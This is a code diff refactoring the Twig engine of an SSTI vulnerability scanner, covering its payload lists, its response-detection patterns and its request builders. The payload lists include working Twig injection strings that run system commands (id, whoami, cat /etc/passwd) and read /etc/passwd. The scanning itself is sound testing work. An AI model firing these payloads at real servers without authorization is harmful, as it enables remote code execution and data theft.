@@ -8,11 +8,294 @@ Author: SSTI Scanner Team
 License: MIT
 """
 
-import re
 import urllib.parse
-from typing import List, Dict, Any, Optional
+from typing import Dict, Any, Iterator, Optional, Tuple
 
-from .base import BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload
+from ._scan import _build_hyperscan_database, _hyperscan_hits, _matching, _scan_table, _text_table, hyperscan
+from .base import (
+    BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload, _ATTRIBUTE_ESCAPE_TABLE,
+    _CONFIDENCE_BY_RANK, _HTML_ESCAPE_TABLE, _JAVASCRIPT_ESCAPE_TABLE, _RANK_HIGH, _RANK_LOW,
+    _RANK_MEDIUM, _SUFFICIENT_EVIDENCE, _build_get_url, _build_post_data, _index_payloads,
+    _inject_fields,
+)
+
+
+# Twig-specific error messages
+_TWIG_ERRORS = [
+    'Twig_Error',
+    'Twig\\Error',
+    'Unknown function',
+    'Unknown filter',
+    'Variable does not exist',
+    'Unexpected token',
+    'Unable to call',
+]
+
+# Symfony-specific indicators
+_SYMFONY_INDICATORS = [
+    'Symfony\\Component',
+    'Symfony\\Bundle',
+    'AppBundle',
+    'ContainerInterface',
+    'ParameterBag',
+]
+
+# Successful dump() output
+_DUMP_PATTERNS = [
+    r'array:\d+\s*\[',
+    r'object\([^)]+\)',
+    r'string\(\d+\)',
+    r'boolean\s+(true|false)',
+    r'integer\s+\d+',
+]
+
+# App object disclosure
+_APP_PATTERNS = [
+    r'Symfony\\Bridge',
+    r'Request.*?object',
+    r'Session.*?object',
+    r'Security.*?object',
+    r'User.*?object',
+]
+
+# Template self-reference
+_SELF_PATTERNS = [
+    r'Twig.*?Template',
+    r'Template.*?object',
+    r'getTemplateName',
+    r'getSourceContext',
+]
+
+# Twig-specific patterns for detection
+_DETECTION_PATTERNS = {
+    'math_result': [
+        r'\b49\b',  # 7*7
+        r'\b64\b',  # 8*8
+        r'\b121\b', # 11*11
+    ],
+    'object_disclosure': [
+        r'object\(.*?Symfony',
+        r'object\(.*?Twig',
+        r'Twig\\Environment',
+        r'Symfony\\Bundle',
+        r'Symfony\\Component',
+    ],
+    'variable_disclosure': [
+        r'array\(\d+\)\s*{',
+        r'\[object Object\]',
+        r'Twig_Environment',
+        r'globals.*?array',
+    ],
+    'filter_execution': [
+        r'TESTSTRING',
+        r'teststring',
+        r'GNIRTSTSET',  # reverse of TESTSTRING
+    ],
+    'function_execution': [
+        r'current_user',
+        r'is_granted',
+        r'path\(',
+        r'url\(',
+    ]
+}
+
+# Every pattern is compiled once, at import.  Plain-text patterns, and the
+# leading text of the others, become substring checks, so a regex only runs
+# on responses that can match.  Math results, filter output, errors and
+# Symfony indicators are matched case-sensitively
+_DETECTION_TABLES = {category: _scan_table(patterns) for category, patterns in _DETECTION_PATTERNS.items()}
+_DETECTION_TABLES['math_result'] = _scan_table(_DETECTION_PATTERNS['math_result'], flags=0)
+_DETECTION_TABLES['filter_execution'] = _text_table(_DETECTION_PATTERNS['filter_execution'])
+_TWIG_ERROR_TABLE = _text_table(_TWIG_ERRORS)
+_SYMFONY_INDICATOR_TABLE = _text_table(_SYMFONY_INDICATORS)
+_DUMP_PATTERN_TABLE = _scan_table(_DUMP_PATTERNS)
+_APP_PATTERN_TABLE = _scan_table(_APP_PATTERNS)
+_SELF_PATTERN_TABLE = _scan_table(_SELF_PATTERNS)
+
+# Tables Hyperscan matches: (table, case-insensitive, plain text).
+# math_result is left to re (Hyperscan has no Unicode \b)
+_HYPERSCAN_TABLES = (
+    (_DETECTION_TABLES['object_disclosure'], True, False),
+    (_DETECTION_TABLES['variable_disclosure'], True, False),
+    (_DETECTION_TABLES['filter_execution'], False, True),
+    (_DETECTION_TABLES['function_execution'], True, False),
+    (_TWIG_ERROR_TABLE, False, True),
+    (_SYMFONY_INDICATOR_TABLE, False, True),
+    (_DUMP_PATTERN_TABLE, True, False),
+    (_APP_PATTERN_TABLE, True, False),
+    (_SELF_PATTERN_TABLE, True, False),
+)
+
+# With Hyperscan installed, all of those are matched in one scan of the response
+_HYPERSCAN_DATABASE = _build_hyperscan_database(_HYPERSCAN_TABLES) if hyperscan is not None else None
+
+
+# Payload feature bits selecting which payload-specific indicator groups run
+_CHECK_MATH = 1 << 0
+_CHECK_FILTER = 1 << 1
+_CHECK_DUMP = 1 << 2
+_CHECK_APP = 1 << 3
+_CHECK_SELF = 1 << 4
+
+
+def _payload_checks(payload: str) -> int:
+    """Compute the indicator-group bitmask for a payload."""
+    payload_lower = payload.lower()
+    checks = 0
+    if any(p in payload for p in ('7*7', '8*8', '11*11')):
+        checks |= _CHECK_MATH
+    if any(f in payload_lower for f in ('upper', 'lower', 'reverse', 'capitalize')):
+        checks |= _CHECK_FILTER
+    if 'dump(' in payload_lower:
+        checks |= _CHECK_DUMP
+    if 'app' in payload_lower:
+        checks |= _CHECK_APP
+    if '_self' in payload:
+        checks |= _CHECK_SELF
+    return checks
+
+
+# Basic math operations
+_MATH_PAYLOADS = (
+    "{{7*7}}",
+    "{{8*8}}",
+    "{{11*11}}",
+    "{{ 7 * 7 }}",
+    "{{7*'7'}}",
+    "{{(7)*7}}",
+    "{{7*(7)}}",
+    "{{(7)*(7)}}",
+)
+
+# Object/variable access
+_OBJECT_PAYLOADS = (
+    "{{app}}",
+    "{{_self}}",
+    "{{app.request}}",
+    "{{app.session}}",
+    "{{app.security}}",
+    "{{app.user}}",
+    "{{dump(app)}}",
+    "{{dump(_self)}}",
+    "{{app.request.headers}}",
+    "{{app.request.server}}",
+    "{{global}}",
+    "{{_context}}",
+    "{{app.debug}}",
+    "{{app.environment}}",
+)
+
+# Filter exploitation
+_FILTER_PAYLOADS = (
+    "{{\"TESTSTRING\"|upper}}",
+    "{{\"TESTSTRING\"|lower}}",
+    "{{\"TESTSTRING\"|reverse}}",
+    "{{\"test\"|capitalize}}",
+    "{{7|number_format}}",
+    "{{\"<script>\"|raw}}",
+    "{{\"\"|join}}",
+    "{{[1,2,3]|join(',')}}",
+    "{{\"test\"|length}}",
+    "{{\"test\"|first}}",
+    "{{\"test\"|last}}",
+)
+
+# Function calls
+_FUNCTION_PAYLOADS = (
+    "{{max(1,2)}}",
+    "{{min(1,2)}}",
+    "{{range(1,3)}}",
+    "{{random(100)}}",
+    "{{date()}}",
+    "{{dump()}}",
+    "{{cycle(['a','b'], 1)}}",
+    "{{attribute(app, 'debug')}}",
+    "{{constant('PHP_VERSION')}}",
+)
+
+# Code execution attempts
+_CODE_PAYLOADS = (
+    "{{app.request.server.get('SERVER_SOFTWARE')}}",
+    "{{_self.env.getFunction('system')}}",
+    "{{_self.env.registerUndefinedFilterCallback('system')}}",
+    "{{['cat /etc/passwd']|filter('system')}}",
+    "{{_self.env.getFilter('system')}}",
+    "{{app.request.query.get('cmd')|passthru}}",
+    "{{'/etc/passwd'|file_get_contents}}",
+    "{{phpinfo()}}",
+    "{{system('id')}}",
+    "{{exec('whoami')}}",
+)
+
+# Context-specific payloads
+# URL context
+_URL_PAYLOADS = (
+    "%7B%7B7*7%7D%7D",  # {{7*7}} URL encoded
+    "%7B%7Bapp%7D%7D",  # {{app}} URL encoded
+    "%7B%7B_self%7D%7D", # {{_self}} URL encoded
+)
+
+# Attribute context
+_ATTR_PAYLOADS = (
+    "x{{7*7}}",
+    "x{{app}}",
+    "{{7*7}}x",
+    "{{app}}x",
+)
+
+# Advanced exploitation
+_ADVANCED_PAYLOADS = (
+    # Method calling
+    "{{app.request.getMethod()}}",
+    "{{app.request.getUri()}}",
+    "{{app.request.getHost()}}",
+    "{{app.request.getScheme()}}",
+    
+    # Symfony-specific
+    "{{app.security.isGranted('ROLE_USER')}}",
+    "{{is_granted('ROLE_ADMIN')}}",
+    "{{app.user.username}}",
+    "{{app.session.id}}",
+    
+    # Template inheritance
+    "{{parent()}}",
+    "{{block('content')}}",
+    
+    # Macro calls
+    "{{_self.macro_name()}}",
+    
+    # Error triggering
+    "{{undefined_variable}}",
+    "{{app.undefined_method()}}",
+    "{{7/0}}",
+)
+
+_PAYLOAD_GROUPS = (
+    (_MATH_PAYLOADS, "math", "html", "Basic mathematical operation"),
+    (_OBJECT_PAYLOADS, "object_access", "html", "Object/variable access"),
+    (_FILTER_PAYLOADS, "filter", "html", "Filter exploitation"),
+    (_FUNCTION_PAYLOADS, "function", "html", "Function execution"),
+    (_CODE_PAYLOADS, "code_execution", "html", "Code execution attempt"),
+    (_URL_PAYLOADS, "math", "url", "URL-encoded payload"),
+    (_ATTR_PAYLOADS, "math", "attribute", "Attribute context payload"),
+    (_ADVANCED_PAYLOADS, "advanced", "html", "Advanced Twig exploitation"),
+)
+
+# Payloads never depend on the instance; build them once per process
+_PAYLOADS: Tuple[Payload, ...] = tuple(
+    Payload(payload=payload, type=payload_type, context=context, description=description)
+    for payloads, payload_type, context, description in _PAYLOAD_GROUPS
+    for payload in payloads
+)
+
+
+# Masks for the built-in payloads are computed once; ad-hoc payloads fall
+# back to _payload_checks at analysis time.
+_PAYLOAD_CHECKS: Dict[str, int] = {p.payload: _payload_checks(p.payload) for p in _PAYLOADS}
+
+# Context and type lookups become a single dict access
+_PAYLOADS_BY_CONTEXT = _index_payloads(_PAYLOADS, 'context')
+_PAYLOADS_BY_TYPE = _index_payloads(_PAYLOADS, 'type')
 
 
 class TwigEngine(BaseTemplateEngine):
@@ -28,224 +311,11 @@ class TwigEngine(BaseTemplateEngine):
         self.name = "twig"
         self.description = "Twig template engine (Symfony)"
         self.payloads = self._load_payloads()
-        
-        # Twig-specific patterns for detection
-        self.detection_patterns = {
-            'math_result': [
-                r'\b49\b',  # 7*7
-                r'\b64\b',  # 8*8
-                r'\b121\b', # 11*11
-            ],
-            'object_disclosure': [
-                r'object\(.*?Symfony',
-                r'object\(.*?Twig',
-                r'Twig\\Environment',
-                r'Symfony\\Bundle',
-                r'Symfony\\Component',
-            ],
-            'variable_disclosure': [
-                r'array\(\d+\)\s*{',
-                r'\[object Object\]',
-                r'Twig_Environment',
-                r'globals.*?array',
-            ],
-            'filter_execution': [
-                r'TESTSTRING',
-                r'teststring',
-                r'GNIRTSTSET',  # reverse of TESTSTRING
-            ],
-            'function_execution': [
-                r'current_user',
-                r'is_granted',
-                r'path\(',
-                r'url\(',
-            ]
-        }
+        self.detection_patterns = _DETECTION_PATTERNS
     
-    def _load_payloads(self) -> List[Payload]:
-        """Load Twig-specific SSTI payloads."""
-        payloads = []
-        
-        # Basic math operations
-        math_payloads = [
-            "{{7*7}}",
-            "{{8*8}}",
-            "{{11*11}}",
-            "{{ 7 * 7 }}",
-            "{{7*'7'}}",
-            "{{(7)*7}}",
-            "{{7*(7)}}",
-            "{{(7)*(7)}}",
-        ]
-        
-        for payload in math_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="html",
-                description="Basic mathematical operation"
-            ))
-        
-        # Object/variable access
-        object_payloads = [
-            "{{app}}",
-            "{{_self}}",
-            "{{app.request}}",
-            "{{app.session}}",
-            "{{app.security}}",
-            "{{app.user}}",
-            "{{dump(app)}}",
-            "{{dump(_self)}}",
-            "{{app.request.headers}}",
-            "{{app.request.server}}",
-            "{{global}}",
-            "{{_context}}",
-            "{{app.debug}}",
-            "{{app.environment}}",
-        ]
-        
-        for payload in object_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="object_access",
-                context="html",
-                description="Object/variable access"
-            ))
-        
-        # Filter exploitation
-        filter_payloads = [
-            "{{\"TESTSTRING\"|upper}}",
-            "{{\"TESTSTRING\"|lower}}",
-            "{{\"TESTSTRING\"|reverse}}",
-            "{{\"test\"|capitalize}}",
-            "{{7|number_format}}",
-            "{{\"<script>\"|raw}}",
-            "{{\"\"|join}}",
-            "{{[1,2,3]|join(',')}}",
-            "{{\"test\"|length}}",
-            "{{\"test\"|first}}",
-            "{{\"test\"|last}}",
-        ]
-        
-        for payload in filter_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="filter",
-                context="html",
-                description="Filter exploitation"
-            ))
-        
-        # Function calls
-        function_payloads = [
-            "{{max(1,2)}}",
-            "{{min(1,2)}}",
-            "{{range(1,3)}}",
-            "{{random(100)}}",
-            "{{date()}}",
-            "{{dump()}}",
-            "{{cycle(['a','b'], 1)}}",
-            "{{attribute(app, 'debug')}}",
-            "{{constant('PHP_VERSION')}}",
-        ]
-        
-        for payload in function_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="function",
-                context="html",
-                description="Function execution"
-            ))
-        
-        # Code execution attempts
-        code_payloads = [
-            "{{app.request.server.get('SERVER_SOFTWARE')}}",
-            "{{_self.env.getFunction('system')}}",
-            "{{_self.env.registerUndefinedFilterCallback('system')}}",
-            "{{['cat /etc/passwd']|filter('system')}}",
-            "{{_self.env.getFilter('system')}}",
-            "{{app.request.query.get('cmd')|passthru}}",
-            "{{'/etc/passwd'|file_get_contents}}",
-            "{{phpinfo()}}",
-            "{{system('id')}}",
-            "{{exec('whoami')}}",
-        ]
-        
-        for payload in code_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="code_execution",
-                context="html",
-                description="Code execution attempt"
-            ))
-        
-        # Context-specific payloads
-        # URL context
-        url_payloads = [
-            "%7B%7B7*7%7D%7D",  # {{7*7}} URL encoded
-            "%7B%7Bapp%7D%7D",  # {{app}} URL encoded
-            "%7B%7B_self%7D%7D", # {{_self}} URL encoded
-        ]
-        
-        for payload in url_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="url",
-                description="URL-encoded payload"
-            ))
-        
-        # Attribute context
-        attr_payloads = [
-            "x{{7*7}}",
-            "x{{app}}",
-            "{{7*7}}x",
-            "{{app}}x",
-        ]
-        
-        for payload in attr_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="attribute",
-                description="Attribute context payload"
-            ))
-        
-        # Advanced exploitation
-        advanced_payloads = [
-            # Method calling
-            "{{app.request.getMethod()}}",
-            "{{app.request.getUri()}}",
-            "{{app.request.getHost()}}",
-            "{{app.request.getScheme()}}",
-            
-            # Symfony-specific
-            "{{app.security.isGranted('ROLE_USER')}}",
-            "{{is_granted('ROLE_ADMIN')}}",
-            "{{app.user.username}}",
-            "{{app.session.id}}",
-            
-            # Template inheritance
-            "{{parent()}}",
-            "{{block('content')}}",
-            
-            # Macro calls
-            "{{_self.macro_name()}}",
-            
-            # Error triggering
-            "{{undefined_variable}}",
-            "{{app.undefined_method()}}",
-            "{{7/0}}",
-        ]
-        
-        for payload in advanced_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="advanced",
-                context="html",
-                description="Advanced Twig exploitation"
-            ))
-        
-        return payloads
+    def _load_payloads(self) -> Tuple[Payload, ...]:
+        """Return the shared Twig SSTI payloads."""
+        return _PAYLOADS
     
     async def test_payload(self, url: str, payload: str, **kwargs) -> EngineResult:
         """
@@ -254,7 +324,8 @@ class TwigEngine(BaseTemplateEngine):
         Args:
             url: Target URL
             payload: Payload to test
-            **kwargs: Additional arguments (http_client, method, data, headers)
+            **kwargs: Additional arguments (http_client, method, data, headers,
+                checks, inject_fields)
         
         Returns:
             EngineResult with test results
@@ -278,42 +349,22 @@ class TwigEngine(BaseTemplateEngine):
             # Determine injection point and method
             if method.upper() == 'GET':
                 # URL parameter injection
-                if '?' in url:
-                    test_url = url.replace('INJECT', payload)
-                    if 'INJECT' not in url:
-                        # Add payload to first parameter
-                        if '=' in url:
-                            test_url = re.sub(r'(=)([^&]*)', f'\\1{payload}', url, count=1)
-                        else:
-                            test_url = f"{url}&test={payload}"
-                    else:
-                        test_url = url.replace('INJECT', payload)
-                else:
-                    test_url = f"{url}?test={payload}"
+                test_url = _build_get_url(url, payload)
                 
                 response = await http_client.get(test_url, headers=headers)
             else:
-                # POST data injection
-                if data:
-                    # Inject into existing data
-                    test_data = data.copy()
-                    if 'INJECT' in str(test_data):
-                        test_data = {k: v.replace('INJECT', payload) if isinstance(v, str) else v 
-                                   for k, v in test_data.items()}
-                    else:
-                        # Add payload to first field or create test field
-                        if test_data:
-                            first_key = next(iter(test_data))
-                            test_data[first_key] = payload
-                        else:
-                            test_data['test'] = payload
-                else:
-                    test_data = {'test': payload}
+                # POST data injection; callers testing many payloads against
+                # the same form can pass the marked fields in once
+                inject_fields = kwargs.get('inject_fields')
+                if inject_fields is None:
+                    inject_fields = _inject_fields(data)
+                test_data = _build_post_data(data, payload, inject_fields)
                 
                 response = await http_client.post(url, data=test_data, headers=headers)
             
             # Analyze the response
-            return self.analyze_response("", payload, response.get('text', ''))
+            return self.analyze_response("", payload, response.get('text', ''),
+                                         checks=kwargs.get('checks'))
             
         except Exception as e:
             return EngineResult(
@@ -325,14 +376,18 @@ class TwigEngine(BaseTemplateEngine):
                 engine=self.name
             )
     
-    def analyze_response(self, original_response: str, payload: str, response: str) -> EngineResult:
+    def analyze_response(self, original_response: str, payload: str, response: str,
+                         checks: Optional[int] = None) -> EngineResult:
         """
         Analyze response for Twig SSTI indicators.
         
+        Only the first ``max_scan_bytes`` characters are scanned.
+        
         Args:
             original_response: Original response (baseline)
             payload: Payload that was sent
             response: Response to analyze
+            checks: Precomputed indicator-group bitmask for the payload
         
         Returns:
             EngineResult with analysis results
@@ -347,8 +402,13 @@ class TwigEngine(BaseTemplateEngine):
                 engine=self.name
             )
         
+        response = response[:self.max_scan_bytes]
+        
+        # Lower-case once; every case-insensitive check below reuses it
+        response_lower = response.lower()
+        
         # Check for direct payload reflection (likely not vulnerable)
-        if payload in response and not any(pattern in response.lower() for pattern in ['twig', 'symfony']):
+        if payload in response and 'twig' not in response_lower and 'symfony' not in response_lower:
             return EngineResult(
                 is_vulnerable=False,
                 confidence=ConfidenceLevel.LOW,
@@ -358,126 +418,23 @@ class TwigEngine(BaseTemplateEngine):
                 engine=self.name
             )
         
+        if checks is None:
+            checks = _PAYLOAD_CHECKS.get(payload)
+            if checks is None:
+                checks = _payload_checks(payload)
+        
         evidence_parts = []
-        confidence = ConfidenceLevel.LOW
+        rank = _RANK_LOW
         is_vulnerable = False
         
-        # Math operation detection
-        if any(p in payload for p in ['7*7', '8*8', '11*11']):
-            for pattern in self.detection_patterns['math_result']:
-                if re.search(pattern, response):
-                    evidence_parts.append(f"Mathematical operation executed: found {pattern}")
-                    confidence = ConfidenceLevel.HIGH
-                    is_vulnerable = True
-                    break
-        
-        # Object disclosure detection
-        for pattern in self.detection_patterns['object_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Object disclosure detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
-        
-        # Variable disclosure detection
-        for pattern in self.detection_patterns['variable_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Variable disclosure detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
-        
-        # Filter execution detection
-        if any(f in payload.lower() for f in ['upper', 'lower', 'reverse', 'capitalize']):
-            for pattern in self.detection_patterns['filter_execution']:
-                if pattern in response:
-                    evidence_parts.append(f"Filter execution detected: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
-        
-        # Function execution detection
-        for pattern in self.detection_patterns['function_execution']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Function execution detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
-        
-        # Twig-specific error messages
-        twig_errors = [
-            'Twig_Error',
-            'Twig\\Error',
-            'Unknown function',
-            'Unknown filter',
-            'Variable does not exist',
-            'Unexpected token',
-            'Unable to call',
-        ]
-        
-        for error in twig_errors:
-            if error in response:
-                evidence_parts.append(f"Twig error detected: {error}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
-        
-        # Symfony-specific indicators
-        symfony_indicators = [
-            'Symfony\\Component',
-            'Symfony\\Bundle',
-            'AppBundle',
-            'ContainerInterface',
-            'ParameterBag',
-        ]
-        
-        for indicator in symfony_indicators:
-            if indicator in response:
-                evidence_parts.append(f"Symfony framework detected: {indicator}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
-        
-        # Check for successful dump() output
-        if 'dump(' in payload.lower():
-            dump_patterns = [
-                r'array:\d+\s*\[',
-                r'object\([^)]+\)',
-                r'string\(\d+\)',
-                r'boolean\s+(true|false)',
-                r'integer\s+\d+',
-            ]
-            
-            for pattern in dump_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Dump output detected: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
-        
-        # Check for app object disclosure
-        if 'app' in payload.lower():
-            app_patterns = [
-                r'Symfony\\Bridge',
-                r'Request.*?object',
-                r'Session.*?object',
-                r'Security.*?object',
-                r'User.*?object',
-            ]
-            
-            for pattern in app_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"App object disclosure: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
-        
-        # Check for template self-reference
-        if '_self' in payload:
-            self_patterns = [
-                r'Twig.*?Template',
-                r'Template.*?object',
-                r'getTemplateName',
-                r'getSourceContext',
-            ]
-            
-            for pattern in self_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Template self-reference detected: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        # Strongest indicators come first; stop at _SUFFICIENT_EVIDENCE
+        for level, message in self._iter_indicators(checks, response, response_lower):
+            evidence_parts.append(message)
+            if level > rank:
+                rank = level
+            is_vulnerable = True
+            if rank == _RANK_HIGH and len(evidence_parts) >= _SUFFICIENT_EVIDENCE:
+                break
         
         # Compile evidence
         if evidence_parts:
@@ -487,20 +444,76 @@ class TwigEngine(BaseTemplateEngine):
             
         return EngineResult(
             is_vulnerable=is_vulnerable,
-            confidence=confidence,
+            confidence=_CONFIDENCE_BY_RANK[rank],
             payload=payload,
             response=response[:500],  # Limit response size
             evidence=evidence,
             engine=self.name
         )
     
-    def get_payloads_for_context(self, context: str) -> List[Payload]:
-        """Get payloads suitable for a specific context."""
-        return [p for p in self.payloads if p.context == context]
+    def _iter_indicators(self, checks: int, response: str,
+                         response_lower: str) -> Iterator[Tuple[int, str]]:
+        """
+        Yield (confidence rank, evidence) pairs for every Twig indicator found.
+        
+        Groups are ordered by expected selectivity and strength: payload-gated
+        HIGH checks first, then unconditional HIGH checks, then MEDIUM ones.
+        """
+        hits = _hyperscan_hits(_HYPERSCAN_DATABASE, response) if _HYPERSCAN_DATABASE is not None else None
+        
+        # Math operation detection
+        if checks & _CHECK_MATH:
+            math_hits = _matching(_DETECTION_TABLES['math_result'], response)
+            if math_hits:
+                yield _RANK_HIGH, f"Mathematical operation executed: found {math_hits[0]}"
+        
+        # Filter execution detection
+        if checks & _CHECK_FILTER:
+            for pattern in _matching(_DETECTION_TABLES['filter_execution'], response, hits):
+                yield _RANK_HIGH, f"Filter execution detected: {pattern}"
+        
+        # Check for successful dump() output
+        if checks & _CHECK_DUMP:
+            for pattern in _matching(_DUMP_PATTERN_TABLE, response_lower, hits):
+                yield _RANK_HIGH, f"Dump output detected: {pattern}"
+        
+        # Check for app object disclosure
+        if checks & _CHECK_APP:
+            for pattern in _matching(_APP_PATTERN_TABLE, response_lower, hits):
+                yield _RANK_HIGH, f"App object disclosure: {pattern}"
+        
+        # Check for template self-reference
+        if checks & _CHECK_SELF:
+            for pattern in _matching(_SELF_PATTERN_TABLE, response_lower, hits):
+                yield _RANK_HIGH, f"Template self-reference detected: {pattern}"
+        
+        # Object disclosure detection
+        for pattern in _matching(_DETECTION_TABLES['object_disclosure'], response_lower, hits):
+            yield _RANK_HIGH, f"Object disclosure detected: {pattern}"
+        
+        # Variable disclosure detection
+        for pattern in _matching(_DETECTION_TABLES['variable_disclosure'], response_lower, hits):
+            yield _RANK_MEDIUM, f"Variable disclosure detected: {pattern}"
+        
+        # Function execution detection
+        for pattern in _matching(_DETECTION_TABLES['function_execution'], response_lower, hits):
+            yield _RANK_MEDIUM, f"Function execution detected: {pattern}"
+        
+        # Twig-specific error messages
+        for error in _matching(_TWIG_ERROR_TABLE, response, hits):
+            yield _RANK_MEDIUM, f"Twig error detected: {error}"
+        
+        # Symfony-specific indicators
+        for indicator in _matching(_SYMFONY_INDICATOR_TABLE, response, hits):
+            yield _RANK_MEDIUM, f"Symfony framework detected: {indicator}"
+    
+    def get_payloads_for_context(self, context: str) -> Tuple[Payload, ...]:
+        """Get payloads suitable for a specific context (read-only tuple)."""
+        return _PAYLOADS_BY_CONTEXT.get(context, ())
     
-    def get_payloads_by_type(self, payload_type: str) -> List[Payload]:
-        """Get payloads of a specific type."""
-        return [p for p in self.payloads if p.type == payload_type]
+    def get_payloads_by_type(self, payload_type: str) -> Tuple[Payload, ...]:
+        """Get payloads of a specific type (read-only tuple)."""
+        return _PAYLOADS_BY_TYPE.get(payload_type, ())
     
     def encode_payload(self, payload: str, context: str) -> str:
         """
@@ -516,11 +529,11 @@ class TwigEngine(BaseTemplateEngine):
         if context == "url":
             return urllib.parse.quote(payload)
         elif context == "html":
-            return payload.replace('<', '&lt;').replace('>', '&gt;').replace('"', '&quot;')
+            return payload.translate(_HTML_ESCAPE_TABLE)
         elif context == "attribute":
-            return payload.replace('"', '&quot;').replace("'", '&#x27;')
+            return payload.translate(_ATTRIBUTE_ESCAPE_TABLE)
         elif context == "javascript":
-            return payload.replace('\\', '\\\\').replace('"', '\\"').replace("'", "\\'")
+            return payload.translate(_JAVASCRIPT_ESCAPE_TABLE)
         else:
             return payload
     
@@ -530,8 +543,8 @@ class TwigEngine(BaseTemplateEngine):
             'name': self.name,
             'description': self.description,
             'payloads': len(self.payloads),
-            'contexts': list(set(p.context for p in self.payloads)),
-            'types': list(set(p.type for p in self.payloads)),
+            'contexts': list(_PAYLOADS_BY_CONTEXT),
+            'types': list(_PAYLOADS_BY_TYPE),
             'framework': 'Symfony',
             'language': 'PHP',
             'syntax': '{{ expression }} and {% statement %}'